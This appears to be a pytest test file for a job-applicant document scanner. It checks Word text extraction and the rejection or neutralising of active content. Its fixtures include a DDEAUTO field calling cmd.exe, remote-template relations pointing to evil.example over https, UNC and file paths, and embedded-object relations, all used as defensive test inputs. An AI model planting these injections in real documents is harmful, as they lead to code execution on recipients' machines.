"""Word files as other programs write them: all their words are read, and no other spelling hides what is active."""

import io
import zipfile
from collections.abc import Callable
from pathlib import Path

import docx
import pytest

from applicants.inspection.word import STRICT
from applicants.services.scanning import check_file
from tests.applicants.test_rewriting import RELATIONS, changed, field, members_of, word_file

__all__ = ["word_file"]

MC = "http://schemas.openxmlformats.org/markup-compatibility/2006"
BOX = "<w:txbxContent><w:p><w:r><w:t>Boxed words</w:t></w:r></w:p></w:txbxContent>"


def beginning(xml: str) -> Callable[[bytes], bytes]:
    return lambda part: part.replace(b"<w:body>", b"<w:body>" + xml.encode(), 1)


def relation(kind: str, target: str) -> Callable[[bytes], bytes]:
    entry = f'<Relationship Id="rId99" Type="{RELATIONS}/{kind}" Target="{target}"/></Relationships>'
    return lambda part: part.replace(b"</Relationships>", entry.encode())


def test_the_name_in_the_header_is_read(word_file: Path) -> None:
    document = docx.Document(str(word_file))
    document.sections[0].header.paragraphs[0].text = "Name on top"
    document.save(str(word_file))

    assert check_file(word_file).text.startswith("Name on top")


def test_a_text_box_is_read_once_and_words_are_kept_apart(word_file: Path) -> None:
    box = f'<mc:AlternateContent xmlns:mc="{MC}"><mc:Choice>{BOX}</mc:Choice><mc:Fallback>{BOX}</mc:Fallback>'
    words = "<w:t>Ann</w:t><w:noBreakHyphen/><w:t>Lee</w:t><w:cr/><w:t>Next</w:t>"
    xml = f"<w:p><w:r>{box}</mc:AlternateContent>{words}</w:r></w:p>"

    text = check_file(changed(word_file, word__document_dot_xml=beginning(xml))).text

    assert text.splitlines()[:2] == ["Ann-Lee Next", "Boxed words"]
    assert text.count("Boxed words") == 1


def test_a_strict_file_is_read_and_its_fields_are_made_harmless(word_file: Path) -> None:
    changed(word_file, word__document_dot_xml=beginning(field("DDEAUTO c:\\cmd.exe")))
    strict = {usual: name for name, usual in STRICT.items()}

    def renamed(part: bytes) -> bytes:
        for usual, name in strict.items():
            part = part.replace(usual, name)
        return part

    parts = {name.replace("/", "__").replace(".", "_dot_"): renamed for name in
             ("word/document.xml", "word/_rels/document.xml.rels", "_rels/.rels")}  # fmt: skip
    verdict = check_file(changed(word_file, **parts))

    assert (verdict.verdict, "Robin Reyes" in verdict.text) == ("accept", True)
    assert b"DDE" not in members_of(verdict.rewritten)["word/document.xml"]


@pytest.mark.parametrize(("kind", "target"), [("aFChunk", "chunk.xml"), ("oleObject", "objects/x.xml")])
def test_a_file_inside_under_another_name_is_refused(word_file: Path, kind: str, target: str) -> None:
    changed(word_file, word___rels__document_dot_xml_dot_rels=relation(kind, target))

    assert check_file(word_file).reason == "active_content"


def test_a_remote_template_is_found_in_capital_letters(word_file: Path) -> None:
    entry = relation("attachedTemplate", 'https://evil.example/t.dotm" TargetMode="External')
    changed(word_file, word___rels__settings_dot_xml_dot_RELS=entry(b"<Relationships></Relationships>"))

    assert check_file(word_file).reason == "active_content"


@pytest.mark.parametrize("part", ["_rels___dot_rels", "[Content_Types]_dot_xml"])
def test_what_is_shown_is_what_was_read(word_file: Path, part: str) -> None:
    """A main part elsewhere, or text under the name of a picture."""
    changed(word_file, **{part: lambda content: content.replace(b"word/document.xml", b"word/me.png")})

    assert check_file(word_file).reason == "active_content"


def renumbered(path: Path) -> Path:
    """As Word on the web packs it."""
    members = members_of(path.read_bytes())
    with zipfile.ZipFile(path, "w") as archive:
        for name, content in members.items():
            moved = content.replace(b"word/document.xml", b"word/document2.xml")
            archive.writestr(name.replace("/document.xml", "/document2.xml"), moved)
    return path


def test_a_file_of_word_on_the_web_is_read(word_file: Path) -> None:
    verdict = check_file(renumbered(word_file))
    assert (verdict.verdict, "Robin Reyes" in verdict.text) == ("accept", True)


@pytest.mark.parametrize(
    ("target", "verdict"),
    [
        ("file:///C:\\Templates\\ModernResume.dotx", "accept"),
        ("Normal.dotm", "accept"),
        ("https://evil.example/x.dotm", "reject"),
        ("\\\\evil.example\\share\\x.dotm", "reject"),
        ("file://evil.example/share/x.dotm", "reject"),
        ("file:////evil.example/share/x.dotm", "reject"),
    ],
)
def test_only_a_template_on_another_machine_is_refused(word_file: Path, target: str, verdict: str) -> None:
    entry = f'<Relationship Id="rId98" Type="{RELATIONS}/attachedTemplate" Target="{target}" TargetMode="External"/>'
    found = check_file(
        changed(
            word_file,
            word___rels__document_dot_xml_dot_rels=lambda part: part.replace(
                b"</Relationships>", f"{entry}</Relationships>".encode()
            ),
        )
    )
    assert found.verdict == verdict
    assert not found.rewritten or b"otm" not in members_of(found.rewritten)["word/_rels/document.xml.rels"]


STRUCK = (
    '<w:p><w:del w:id="1" w:author="Ann"><w:r><w:delText>STRUCK OUT</w:delText></w:r></w:del>'
    '<w:moveFrom w:id="2" w:author="Ann"><w:r><w:t>MOVED AWAY</w:t></w:r></w:moveFrom><w:r><w:t>Kept</w:t></w:r></w:p>'
    '<w:tbl><w:tr><w:trPr><w:del w:id="3" w:author="Ann"/></w:trPr><w:tc><w:p><w:r><w:t>ROW GONE</w:t></w:r></w:p>'
    "</w:tc></w:tr></w:tbl>"
)


def test_what_was_struck_out_and_notes_of_others_are_not_served(word_file: Path) -> None:
    document = docx.Document(str(word_file))
    document.add_comment(document.paragraphs[0].runs, text="DO NOT HIRE", author="Ann Lee", initials="AL")
    document.save(str(word_file))
    verdict = check_file(changed(word_file, word__document_dot_xml=beginning(STRUCK)))
    served = b"".join(members_of(verdict.rewritten).values())
    for words in (b"STRUCK OUT", b"MOVED AWAY", b"ROW GONE", b"DO NOT HIRE", b"Ann Lee"):
        assert words not in served
        assert words.decode() not in verdict.text
    assert "Kept" in verdict.text
    assert docx.Document(io.BytesIO(verdict.rewritten)).paragraphs
